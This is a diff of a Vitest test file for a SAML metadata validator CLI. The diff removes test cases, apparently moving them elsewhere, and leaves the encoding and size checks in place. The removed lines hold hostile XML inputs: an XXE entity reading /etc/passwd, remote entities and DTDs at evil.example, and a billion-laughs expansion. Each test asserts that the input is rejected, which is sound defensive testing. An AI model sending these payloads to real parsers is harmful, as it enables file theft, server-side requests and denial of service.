@@ -1,135 +1,14 @@
-import { writeFileSync } from 'node:fs';
-import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { expectUnchanged, findingCodes, runGuarded, snapshotDir, tempDir, type GuardedResult } from './helpers.js';
-import { ENTITY_ID, MD, SSO_URL, b64, keyDescriptor, metadata, ssoServices } from './xml-fixtures.js';
+import { runGuarded } from './helpers.js';
+import { validateXml as validate } from './validate-xml.js';
+import { ENTITY_ID, b64, keyDescriptor, metadata, ssoServices } from './xml-fixtures.js';
 
 /**
- * Hostile XML through `validate-metadata` (issue 8, DESIGN.md §5): each case asserts the exact
- * finding (or error) code, the exit code, that no request was made, that the working directory is
- * unchanged, and (helpers) that it finished within the hang guard.
+ * Hostile values, sizes, bytes and endpoints through `validate-metadata` (issue 8, DESIGN.md §5),
+ * plus metadata URLs that must be refused before any request. Same guarantees as
+ * xml-structure.test.ts (exact codes, exit codes, no request, nothing changed, hang guard).
  */
-const NOW = '2026-06-01T00:00:00Z';
-
-async function validate(content: string | Buffer, extra: string[] = [], hangMs?: number): Promise<GuardedResult & { codes: string[] }> {
-  const dir = tempDir();
-  writeFileSync(join(dir, 'idp.xml'), content);
-  const before = snapshotDir(dir);
-  const r = await runGuarded(['validate-metadata', 'idp.xml', '--json', '--now', NOW, ...extra], { cwd: dir, ...(hangMs ? { hangMs } : {}) });
-  expect(r.requests).toEqual([]);
-  expectUnchanged(before, snapshotDir(dir));
-  return { ...r, codes: findingCodes(r.json?.findings ?? []) };
-}
-
-const root = (inner = '') => metadata().replace('<md:EntityDescriptor', `${inner}<md:EntityDescriptor`);
-const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>';
 const body = metadata({ declaration: false });
-
-describe('XML: DOCTYPE and entities are rejected before any parser runs', () => {
-  it.each([
-    ['DOCTYPE with internal entity used in entityID', `${XML_DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY x "http://www.okta.com/exkEVIL">]>${body.replace(ENTITY_ID, '&x;')}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
-    [
-      'billion laughs',
-      `${XML_DECL}<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>${body.replace(ENTITY_ID, '&lol9;')}`,
-      ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION'],
-    ],
-    ['XXE: SYSTEM file entity', `${XML_DECL}<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${body.replace(ENTITY_ID, '&xxe;')}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
-    ['XXE: SYSTEM http entity', `${XML_DECL}<!DOCTYPE r [<!ENTITY xxe SYSTEM "https://evil.example/x">]>${body.replace(ENTITY_ID, '&xxe;')}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
-    ['external DTD', `${XML_DECL}<!DOCTYPE r SYSTEM "https://evil.example/evil.dtd">${body}`, ['XML_DOCTYPE']],
-    ['parameter entities', `${XML_DECL}<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>${body}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
-    ['entity declaration without DOCTYPE', `${XML_DECL}<!ENTITY x "y">${body}`, ['XML_ENTITY_DECLARATION']],
-    ['DOCTYPE after the root', `${XML_DECL}${body}<!DOCTYPE r>`, ['XML_DOCTYPE']],
-  ])('%s', async (_name, xml, codes) => {
-    const r = await validate(xml);
-    expect(r.code).toBe(1);
-    for (const c of codes) expect(r.codes).toContain(c);
-    expect(r.json?.entityId).toBeNull();
-    expect(r.stdout).not.toMatch(/root:x:0|exkEVIL|lollol/);
-  });
-});
-
-describe('XML: structure', () => {
-  it('two roots → XML_MULTIPLE_ROOTS', async () => {
-    const r = await validate(`${XML_DECL}${body}${body.replace(ENTITY_ID, 'http://www.okta.com/exkEVIL')}`);
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain('XML_MULTIPLE_ROOTS');
-    expect(r.stdout).not.toContain('exkEVIL');
-  });
-
-  it('processing instruction → XML_PROCESSING_INSTRUCTION', async () => {
-    const r = await validate(`${XML_DECL}<?xml-stylesheet href="https://evil.example/x.xsl"?>${body}`);
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain('XML_PROCESSING_INSTRUCTION');
-  });
-
-  it('namespace spoof: md bound to another URI → MD_NOT_METADATA', async () => {
-    const r = await validate(metadata({ mdNs: 'urn:oasis:names:tc:SAML:2.0:metadata:evil' }));
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain('MD_NOT_METADATA');
-    expect(r.json?.entityId).toBeNull();
-  });
-
-  it('namespace spoof: the right URI under another prefix is accepted (URI, not prefix)', async () => {
-    const r = await validate(metadata().replace(/md:/g, 'evil:').replace('xmlns:md=', 'xmlns:evil='));
-    expect(r.code).toBe(0);
-    expect(r.json?.entityId).toBe(ENTITY_ID);
-  });
-
-  it.each([
-    ['an unrelated root', '<foo xmlns="urn:x"/>', 'MD_NOT_METADATA'],
-    ['a SAML Response', '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="r1" Version="2.0"/>', 'MD_SAML_RESPONSE'],
-    ['an HTML page', '<html><head><title>Sign In</title></head><body></body></html>', 'MD_HTML_PAGE'],
-    [
-      'SP metadata',
-      `<md:EntityDescriptor xmlns:md="${MD}" entityID="https://polyaxon.acme.com/sso/okta/metadata/acme"><md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/></md:EntityDescriptor>`,
-      'MD_SP_METADATA',
-    ],
-  ])('unexpected root: %s → %s', async (_n, xml, code) => {
-    const r = await validate(xml);
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain(code);
-  });
-
-  const aggregate = `<md:EntitiesDescriptor xmlns:md="${MD}">${body.replace(` xmlns:md="${MD}"`, '')}${body
-    .replace(` xmlns:md="${MD}"`, '')
-    .replace(ENTITY_ID, 'http://www.okta.com/exkOTHER')}</md:EntitiesDescriptor>`;
-
-  it('aggregate without --entity-id → MD_AGGREGATE_NEEDS_ENTITY_ID (never a silent first pick)', async () => {
-    const r = await validate(aggregate);
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain('MD_AGGREGATE_NEEDS_ENTITY_ID');
-    expect(r.json?.entityId).toBeNull();
-  });
-
-  it('aggregate with an unknown --entity-id → MD_ENTITY_NOT_FOUND', async () => {
-    const r = await validate(aggregate, ['--entity-id', 'http://www.okta.com/exkNOPE']);
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain('MD_ENTITY_NOT_FOUND');
-  });
-
-  it('aggregate with --entity-id picks exactly that entity', async () => {
-    const r = await validate(aggregate, ['--entity-id', 'http://www.okta.com/exkOTHER']);
-    expect(r.code).toBe(0);
-    expect(r.json?.entityId).toBe('http://www.okta.com/exkOTHER');
-  });
-
-  it('duplicate IDPSSODescriptor → MD_IDP_DESCRIPTOR_MULTIPLE', async () => {
-    const idp = /<md:IDPSSODescriptor[\s\S]*<\/md:IDPSSODescriptor>/.exec(body)?.[0] ?? '';
-    const r = await validate(metadata({ rootExtra: idp.replace(SSO_URL, 'https://evil.example/sso').replace(SSO_URL, 'https://evil.example/sso') }));
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain('MD_IDP_DESCRIPTOR_MULTIPLE');
-  });
-
-  it.each([
-    ['entityID twice', metadata().replace(`entityID="${ENTITY_ID}"`, `entityID="${ENTITY_ID}" entityID="http://www.okta.com/exkEVIL"`)],
-    ['Location twice', metadata({ sso: `<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${SSO_URL}" Location="https://evil.example/"/>` })],
-  ])('duplicate attribute (%s) → XML_DUPLICATE_ATTRIBUTE', async (_n, xml) => {
-    const r = await validate(xml);
-    expect(r.code).toBe(1);
-    expect(r.codes).toContain('XML_DUPLICATE_ATTRIBUTE');
-    expect(r.stdout).not.toContain('evil');
-  });
-});
 
 describe('XML: values', () => {
   const cert = b64('okta-like.cert.pem');
@@ -189,7 +68,6 @@ describe('XML: values', () => {
 });
 
 describe('XML: size, depth and bytes', () => {
-  const idp = body;
   // 50 MB, mostly text (the shape of certificate-heavy metadata). Dense small elements are much
   // slower in xmldom (~1 s/MB): measured and reported in the issue 8 closing note, not asserted.
   const bigExtensions = (mb: number): string =>
@@ -222,7 +100,7 @@ describe('XML: size, depth and bytes', () => {
   });
 
   it('invalid UTF-8 → XML_ENCODING', async () => {
-    const bytes = Buffer.from(idp.replace(ENTITY_ID, 'http://www.okta.com/exk__'));
+    const bytes = Buffer.from(body.replace(ENTITY_ID, 'http://www.okta.com/exk__'));
     const at = bytes.indexOf('exk__') + 3;
     bytes[at] = 0xc3;
     bytes[at + 1] = 0x28; // 0xC3 must be followed by a continuation byte
@@ -232,25 +110,25 @@ describe('XML: size, depth and bytes', () => {
   });
 
   it('overlong UTF-8 encoding of "<" → XML_ENCODING', async () => {
-    const bytes = Buffer.concat([Buffer.from(idp), Buffer.from([0xc0, 0xbc])]);
+    const bytes = Buffer.concat([Buffer.from(body), Buffer.from([0xc0, 0xbc])]);
     const r = await validate(bytes);
     expect(r.codes).toContain('XML_ENCODING');
   });
 
   it('UTF-16 without BOM → XML_ENCODING', async () => {
-    const r = await validate(Buffer.from(idp, 'utf16le'));
+    const r = await validate(Buffer.from(body, 'utf16le'));
     expect(r.code).toBe(1);
     expect(r.codes).toContain('XML_ENCODING');
   });
 
   it('UTF-16 LE with BOM is read (control case)', async () => {
-    const r = await validate(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(idp, 'utf16le')]));
+    const r = await validate(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(body, 'utf16le')]));
     expect(r.code).toBe(0);
     expect(r.json?.entityId).toBe(ENTITY_ID);
   });
 
   it('double BOM → XML_DOUBLE_BOM', async () => {
-    const r = await validate(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), Buffer.from(idp)]));
+    const r = await validate(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), Buffer.from(body)]));
     expect(r.codes).toContain('XML_DOUBLE_BOM');
   });
 
